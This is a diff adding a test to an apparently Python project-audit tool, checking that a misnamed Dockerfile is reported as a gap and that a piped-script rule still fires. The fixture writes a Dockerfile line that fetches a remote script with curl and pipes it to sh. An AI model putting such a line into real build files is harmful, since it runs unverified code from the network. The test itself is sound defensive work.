@@ -169,3 +169,14 @@ def test_the_script_in_the_dockerfile_fails_where_the_environment_is_not_the_loc
         [sys.executable, "-", site, tmp_path / "lock.txt"], input=check_script(), text=True, capture_output=True, check=False
     )
     assert (done.returncode, said in done.stderr) == (code, True), done.stderr
+
+
+def test_a_file_that_is_no_dockerfile_is_a_gap_and_hides_no_other(project: Path, index: TestIndex, tmp_path: Path) -> None:
+    copy = tmp_path / "copy"
+    copy.mkdir()
+    (copy / "requirements.in").write_text("web\n", encoding="utf-8")
+    (copy / "Dockerfile").write_text("<html>a page that was saved by mistake</html>\n", encoding="utf-8")
+    (copy / "web.Dockerfile").write_text("FROM python:3.12-slim\nRUN curl https://x.example | sh\n", encoding="utf-8")
+    ran = audit(copy, index, "--python", str(project / ".venv"))
+    assert "Dockerfile" in {gap["subject"] for gap in ran.json["gaps"]}
+    assert ("dockerfile-piped-script", None) in rules(ran)
